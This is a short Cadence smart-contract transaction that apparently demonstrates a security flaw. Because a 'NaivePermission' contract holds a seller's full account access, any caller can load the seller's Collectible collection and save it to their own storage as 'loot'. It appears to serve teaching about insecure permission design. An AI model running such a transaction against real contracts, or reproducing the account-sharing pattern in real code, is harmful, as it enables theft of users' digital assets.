import "Collectible"
import "NaivePermission"

/// A stranger carries the seller's whole collection away, because the contract was given the account.
transaction(seller: Address) {
    prepare(thief: auth(SaveValue) &Account) {
        let account = NaivePermission.accounts[seller]!.borrow()!
        thief.storage.save(
            <-account.storage.load<@Collectible.Collection>(from: Collectible.CollectionStoragePath)!,
            to: /storage/loot
        )
    }
}
